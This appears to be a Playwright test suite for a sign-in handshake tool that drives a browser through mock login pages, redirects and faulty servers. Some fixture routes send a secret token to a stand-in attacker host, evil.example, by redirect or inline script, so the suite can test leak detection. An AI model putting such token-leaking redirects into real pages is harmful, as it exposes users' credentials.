import { expect, test } from '@playwright/test';
import type { Page } from 'playwright';
import { findBrowser } from '../../drivers/find-browser.js';
import type { BrowserFound } from '../../drivers/find-browser.js';
import type { Exchange, StopCode } from '../../protocol/exchange.js';
import { createCertificate } from '../../mock-host/certificate.js';
import { openSink } from '../../mock-host/sink.js';
import { sealAs } from '../../protocol/sealed.js';
import type { SignInScript } from '../../protocol/visit.js';
import {
  bodyOf,
  callbackUrl,
  docsOrigin,
  html,
  openScene,
  redirect,
  someToken,
  visitOf,
} from './browser-stand-in.js';
import type { Scene } from './browser-stand-in.js';

let found: BrowserFound | undefined;
let scene: Scene;
const form =
  '<form method="post"><input name="email" type="email"><input name="pw" type="password"><input type="hidden" name="csrf" value="hidden-value-1"><button>Sign in</button></form>';
const handOver = `${callbackUrl}?redirect=%2Fq#${someToken}`;

test.beforeAll(async () => {
  found = await findBrowser(process.env);
  if (found === undefined) return;
  scene = await openScene(found, (here) => ({
    '/form': async (request, response) => {
      if (/sid=live/.test(request.headers.cookie ?? '')) return redirect(response, handOver);
      if (request.method === 'GET') return html(response, form);
      const fields = new URLSearchParams(await bodyOf(request));
      const right =
        fields.get('pw') === 'correct horse+battery' && fields.get('csrf') === 'hidden-value-1';
      if (!right) return html(response, `<p role="alert">Wrong password</p>${form}`, 401);
      response.setHeader('set-cookie', ['sid=live-session-1; Path=/; HttpOnly', 'theme=dark']);
      redirect(response, handOver, 303);
    },
    '/csp': (request, response) => {
      if (request.method === 'POST') return redirect(response, handOver);
      response.setHeader('content-security-policy', "form-action 'self'");
      html(response, form);
    },
    '/strict': async (request, response) => {
      if (request.method === 'POST') return redirect(response, handOver);
      response.setHeader('content-security-policy', "default-src 'none'; frame-ancestors 'none'");
      html(response, form);
    },
    '/identifier': (_request, response) =>
      html(
        response,
        '<form method="post" action="/password"><input name="user"><button>Next</button></form>',
      ),
    '/password': async (request, response) => {
      const fields = new URLSearchParams(await bodyOf(request));
      if (fields.get('pw') !== null) return redirect(response, handOver);
      html(
        response,
        '<form method="post"><input type="password" name="pw"><button>Go</button></form>',
      );
    },
    '/late-form': (_request, response) =>
      html(
        response,
        `<div id="app"></div><script>setTimeout(() => { document.getElementById('app').innerHTML = '<form><input name=user><input type=password id=p><button>Log in</button></form>'; document.forms[0].onsubmit = async (e) => { e.preventDefault(); const r = await fetch('/api', { method: 'POST', body: document.getElementById('p').value }); location.href = await r.text(); }; }, 700)</script>`,
      ),
    '/api': (_request, response) => void setTimeout(() => response.end(handOver), 600),
    '/302': (_request, response) => redirect(response, handOver),
    '/no-fragment': (_request, response) => redirect(response, callbackUrl),
    '/refuse': (_request, response) => redirect(response, `${docsOrigin}/refuse#${someToken}`),
    '/chain': (_request, response) => redirect(response, '/302'),
    '/slow-chain': (_request, response) => void setTimeout(() => redirect(response, '/302'), 1_500),
    '/script': (_request, response) =>
      html(response, `<script>location.href = ${JSON.stringify(handOver)}</script>`),
    '/fetch-then-script': (_request, response) =>
      html(
        response,
        `<script>setTimeout(() => fetch('/api').then((r) => r.text()).then((u) => location.replace(u)), 900)</script>`,
      ),
    '/meta': (_request, response) =>
      html(response, `<meta http-equiv="refresh" content="0;url=${handOver}">`),
    '/refresh': (_request, response) => {
      response.setHeader('refresh', `3;url=${handOver}`);
      html(response, 'wait');
    },
    '/post-form': (_request, response) =>
      html(
        response,
        `<form method="post" action="${handOver}"></form><script>document.forms[0].submit()</script>`,
      ),
    '/evil': (_request, response) => redirect(response, `https://evil.example:8443/x#${someToken}`),
    '/evil-script': (_request, response) =>
      html(response, `<script>location.href='http://evil.example/y?t=${someToken}'</script>`),
    '/evil-empty': (_request, response) => redirect(response, 'https://evil.example/'),
    '/data': (_request, response) => redirect(response, `data:text/html,${someToken}`),
    '/utf8': (_request, response) =>
      redirect(response, Buffer.from(`${docsOrigin}/café#${someToken}`).toString('latin1')),
    '/dashboard': (_request, response) => html(response, '<title>Home</title>Welcome back'),
    '/app': (_request, response) => html(response, '<title>Home</title><script>1</script>Welcome'),
    '/forbidden': (_request, response) => html(response, 'no', 403),
    '/no-location': (_request, response) => void response.writeHead(302).end('x'),
    '/loop': (_request, response) => redirect(response, '/loop'),
    '/two': (request) =>
      void request.socket.end(
        'HTTP/1.1 302 Found\r\nLocation: /a\r\nLocation: /b\r\nContent-Length: 0\r\n\r\n',
      ),
    '/garbage': (request) => void request.socket.end('tra la la\r\n\r\n'),
    '/reset': (request) => void request.socket.destroy(),
    '/hang': () => undefined,
    '/foreign-form': (_request, response) =>
      html(
        response,
        form.replace('method="post"', 'method="post" action="http://idp.localhost:1/"'),
      ),
    '/to-sign-in': (_request, response) =>
      redirect(response, `http://127.0.0.1:${here().flow.port}/form`),
    '/get-form': (_request, response) => html(response, form.replace('method="post"', '')),
  }));
});
test.beforeEach(() => test.skip(found === undefined, 'no browser here'));
test.afterAll(() => scene?.close());

interface Row {
  readonly path: string;
  readonly stop: StopCode;
  readonly hops: readonly string[];
  readonly says?: RegExp;
  readonly landing?: string;
  readonly url?: string;
  readonly session?: 'anonymous';
  readonly blocked?: RegExp;
}

const shape = (exchange: Exchange): readonly string[] =>
  exchange.hops.map(
    (hop) =>
      `${hop.cause} ${hop.method} ${new URL(hop.url.reveal()).pathname} ${hop.status ?? '-'}`,
  );

const rows: readonly Row[] = [
  {
    path: '/302',
    stop: 'callback',
    hops: ['start GET /302 302'],
    landing: 'accepted',
    url: handOver,
  },
  {
    path: '/no-fragment',
    stop: 'callback',
    hops: ['start GET /no-fragment 302'],
    landing: 'accepted',
    url: callbackUrl,
  },
  { path: '/refuse', stop: 'callback', hops: ['start GET /refuse 302'], landing: 'token-expired' },
  {
    path: '/chain',
    stop: 'callback',
    hops: ['start GET /chain 302', 'redirect GET /302 302'],
    landing: 'accepted',
  },
  {
    path: '/slow-chain',
    stop: 'callback',
    hops: ['start GET /slow-chain 302', 'redirect GET /302 302'],
    landing: 'accepted',
  },
  {
    path: '/script',
    stop: 'callback',
    hops: ['start GET /script 200'],
    url: handOver,
    landing: 'accepted',
  },
  {
    path: '/fetch-then-script',
    stop: 'callback',
    hops: ['start GET /fetch-then-script 200'],
    url: handOver,
    landing: 'accepted',
  },
  {
    path: '/meta',
    stop: 'callback',
    hops: ['start GET /meta 200'],
    url: handOver,
    landing: 'accepted',
  },
  {
    path: '/refresh',
    stop: 'callback',
    hops: ['start GET /refresh 200'],
    url: handOver,
    landing: 'accepted',
  },
  {
    path: '/post-form',
    stop: 'callback',
    hops: ['start GET /post-form 200'],
    url: handOver,
    landing: 'accepted',
  },
  {
    path: '/utf8',
    stop: 'callback',
    hops: ['start GET /utf8 302'],
    url: `${docsOrigin}/caf%C3%A9#${someToken}`,
    landing: 'accepted',
  },
  {
    path: '/form',
    stop: 'callback',
    hops: ['start GET /form 200', 'form POST /form 303'],
    url: handOver,
    landing: 'accepted',
  },
  {
    path: '/strict',
    stop: 'callback',
    hops: ['start GET /strict 200', 'form POST /strict 302'],
    landing: 'accepted',
  },
  {
    path: '/identifier',
    stop: 'callback',
    hops: ['start GET /identifier 200', 'form POST /password 200', 'form POST /password 302'],
    landing: 'accepted',
  },
  { path: '/late-form', stop: 'callback', hops: ['start GET /late-form 200'], landing: 'accepted' },
  {
    path: '/csp',
    stop: 'callback',
    hops: ['start GET /csp 200', 'form POST /csp 302'],
    url: handOver,
    blocked: /form-action 'self'/,
  },
  { path: '/evil', stop: 'left', hops: ['start GET /evil 302'], says: /evil\.example:8443/ },
  { path: '/evil-script', stop: 'left', hops: ['start GET /evil-script 200'] },
  { path: '/evil-empty', stop: 'left-without-token', hops: ['start GET /evil-empty 302'] },
  { path: '/data', stop: 'left', hops: ['start GET /data 302'], blocked: /UNSAFE_REDIRECT/ },
  {
    path: '/form',
    session: 'anonymous',
    stop: 'sign-in-page',
    hops: ['start GET /form 200'],
    says: /does not sign in/,
  },
  {
    path: '/dashboard',
    stop: 'no-form',
    hops: ['start GET /dashboard 200'],
    says: /titled “Home”/,
  },
  { path: '/dashboard', session: 'anonymous', stop: 'page', hops: ['start GET /dashboard 200'] },
  { path: '/app', session: 'anonymous', stop: 'page', hops: ['start GET /app 200'] },
  { path: '/forbidden', stop: 'status', hops: ['start GET /forbidden 403'], says: /403/ },
  { path: '/no-location', stop: 'bad-location', hops: ['start GET /no-location 302'] },
  { path: '/two', stop: 'bad-location', hops: ['start GET /two -'] },
  { path: '/garbage', stop: 'garbage', hops: ['start GET /garbage -'] },
  { path: '/reset', stop: 'unreachable', hops: ['start GET /reset -'] },
  {
    path: '/foreign-form',
    stop: 'no-form',
    hops: ['start GET /foreign-form 200'],
    says: /--sign-in-origin http:\/\/idp\.localhost:1/,
  },
  {
    path: '/to-sign-in',
    stop: 'no-form',
    hops: ['start GET /to-sign-in 302', 'redirect GET /form 200'],
    says: /--sign-in-origin http:\/\/127/,
  },
  { path: '/get-form', stop: 'no-form', hops: ['start GET /get-form 200'], says: /method="post"/ },
];

test('each kind of answer ends a visit as it should', async () => {
  test.setTimeout(120_000);
  for (const row of rows) {
    const driver = await scene.open(scene.target(row.path));
    const startedMs = Date.now();
    const exchange = await driver.visit(visitOf('honest', row.session ?? 'signing-in', '/q'));
    if (process.env['SHOW_TIMES']) console.log(row.path, Date.now() - startedMs);
    await driver.close();
    const seen = {
      stop: exchange.stop.code,
      hops: shape(exchange),
      landing: exchange.landing && (exchange.landing.code ?? 'accepted'),
    };
    expect.soft(seen, `${row.path}: ${exchange.stop.sentence}`).toEqual({
      stop: row.stop,
      hops: row.hops,
      landing: row.landing,
    });
    if (row.says) expect.soft(exchange.stop.sentence, row.path).toMatch(row.says);
    if (row.url) expect.soft(exchange.callback?.url.reveal(), row.path).toBe(row.url);
    if (row.blocked) expect.soft(exchange.callback?.blocked, row.path).toMatch(row.blocked);
    else expect.soft(exchange.callback?.blocked, row.path).toBeUndefined();
    expect.soft(exchange.navigations[0]).toMatchObject({ from: -1, cause: 'start' });
    expect.soft(JSON.stringify(exchange), row.path).not.toContain(someToken);
    expect.soft(JSON.stringify(exchange), row.path).not.toContain('correct horse');
  }
});

test('the sign-in, its cookies, and who gets what', async () => {
  const target = scene.target('/form', {
    cookies: [['edge', sealAs('cookie-for-the-gateway')]],
    headers: [['X-Gate', sealAs('header-for-the-gateway')]],
  });
  const driver = await scene.open(target);
  scene.flowSaw.splice(0);
  scene.sink.clear();
  const first = await driver.visit(visitOf('first', 'signing-in', '/q'));
  expect(first.stop.code).toBe('callback');
  expect(first.signIns).toBe(1);
  expect(first.hops.map((hop) => hop.credentials)).toEqual([false, true]);
  expect(first.hops[1]?.cookiesSet).toEqual(['sid', 'theme']);
  expect(first.callback?.location?.reveal()).toBe(handOver);
  expect(first.callback?.hop).toBe(1);
  expect(first.callback?.dateMs).toBeGreaterThan(0);
  expect(first.hops[0]?.body?.text?.reveal()).toContain('type="password"');
  expect(first.secrets.map((secret) => secret.reveal())).toEqual(
    expect.arrayContaining(['correct horse+battery', 'live-session-1', 'hidden-value-1']),
  );

  const live = await driver.visit(visitOf('live', 'live', '/q'));
  expect(shape(live)).toEqual(['start GET /form 302']);
  expect(live.hops[0]?.cookiesSent.toSorted()).toEqual(['edge', 'sid', 'theme']);
  expect(live.signIns).toBe(0);

  const anonymous = await driver.visit(visitOf('anonymous', 'anonymous', '/q'));
  expect(anonymous.stop.code).toBe('sign-in-page');
  const [signingIn, , second, third] = scene.flowSaw.filter(({ path }) => path === '/form');
  expect(signingIn?.headers).toMatchObject({ 'x-gate': 'header-for-the-gateway' });
  expect(signingIn?.headers.cookie).toBe('edge=cookie-for-the-gateway');
  expect(second?.headers['user-agent']).toMatch(/docs-handshake/);
  expect(third?.headers).not.toHaveProperty('x-gate');
  expect(third?.headers).not.toHaveProperty('cookie');

  const handed = await driver.cookies();
  expect(handed.map(({ name, domain, hostOnly }) => [name, domain, hostOnly]).toSorted()).toEqual([
    ['edge', 'localhost', true],
    ['sid', 'localhost', true],
    ['theme', 'localhost', true],
  ]);
  await driver.close();
  await driver.close();

  const other = await scene.open(target);
  await other.adopt(handed);
  const adopted = await other.visit(visitOf('adopted', 'live', '/q'));
  expect(shape(adopted)).toEqual(['start GET /form 302']);
  await other.close();
});

test('a leak reaches the sink, a configured header does not', async () => {
  const driver = await scene.open(
    scene.target('/evil', { headers: [['X-Gate', sealAs('header-for-the-gateway')]] }),
  );
  scene.sink.clear();
  const exchange = await driver.visit(visitOf('hostile', 'live', '//evil.example'));
  expect(exchange.stop.code).toBe('left');
  const [record] = scene.sink.records();
  expect(record).toMatchObject({ scheme: 'https', host: 'evil.example:8443', method: 'GET' });
  expect(record?.headers.map(([name]) => name.toLowerCase())).not.toContain('x-gate');
  await driver.close();
});

test('a refused password is tried once', async () => {
  const driver = await scene.open(
    scene.target('/form', { user: { username: 'ann', password: sealAs('wrong-password') } }),
  );
  const first = await driver.visit(visitOf('first', 'signing-in'));
  expect(first.stop).toMatchObject({
    code: 'sign-in-refused',
    sentence: expect.stringMatching(/Wrong password.*--username and --password/),
  });
  expect(first.signIns).toBe(1);
  const second = await driver.visit(visitOf('second', 'signing-in'));
  expect(second.stop.code).toBe('not-made');
  await driver.close();
});

test('a sign-in script gets the page', async () => {
  const rows: readonly (readonly [SignInScript, StopCode, RegExp])[] = [
    [
      async (page, { username, password }) => {
        const shown = page as Page;
        await shown.getByRole('textbox').first().fill(username);
        await shown.locator('[name=pw]').fill(password);
        await shown.getByRole('button').click();
        await shown.waitForURL(/never/, { timeout: 20_000 });
      },
      'callback',
      /to the docs/,
    ],
    [
      () => Promise.reject(new Error('no such button')),
      'sign-in-refused',
      /--sign-in failed: no such button/,
    ],
    [() => Promise.resolve(), 'sign-in-refused', /again/],
  ];
  for (const [signIn, code, sentence] of rows) {
    const driver = await scene.open(scene.target('/form', { signIn: { how: 'script', signIn } }));
    const exchange = await driver.visit(visitOf('script', 'signing-in', '/q'));
    expect.soft(exchange.stop.code).toBe(code);
    expect.soft(exchange.stop.sentence).toMatch(sentence);
    await driver.close();
  }
});

test('faults of the target, an interruption, and a browser that goes away', async () => {
  const { port } = scene.flow;
  const shut = await openSink(await createCertificate());
  const { port: closed } = shut;
  await shut.close();
  const rows: readonly (readonly [string, StopCode, RegExp])[] = [
    ['http://127.0.0.1:9/login', 'unreachable', /refuse to connect to port 9/],
    [`http://127.0.0.1:${closed}/login`, 'unreachable', /refuses connections; start the login flow/],
    ['http://no-such-host.invalid/login', 'unreachable', /does not resolve/],
    [`https://127.0.0.1:${port}/302`, 'callback', /to the docs/],
    [`http://127.0.0.1:${port}/hang`, 'timeout', /did not answer within 1 s/],
    [`http://127.0.0.1:${port}/loop`, 'loop', /more than 20 times/],
  ];
  for (const [loginUrl, code, sentence] of rows) {
    const driver = await scene.open(scene.target('/', { loginUrl, timeoutMs: 1_000 }));
    const exchange = await driver.visit(visitOf('honest', 'signing-in'));
    expect.soft(exchange.stop.code, loginUrl).toBe(code);
    expect.soft(exchange.stop.sentence, loginUrl).toMatch(sentence);
    await driver.close();
  }
  const controller = new AbortController();
  const driver = await scene.open(scene.target('/hang'), { signal: controller.signal });
  const hanging = driver.visit(visitOf('hanging', 'signing-in'));
  scene.flowSaw.splice(0);
  await expect.poll(() => scene.flowSaw.length).toBeGreaterThan(0);
  controller.abort(new Error('interrupted by the test'));
  await expect(hanging).rejects.toThrow('interrupted by the test');
  await driver.close();
});
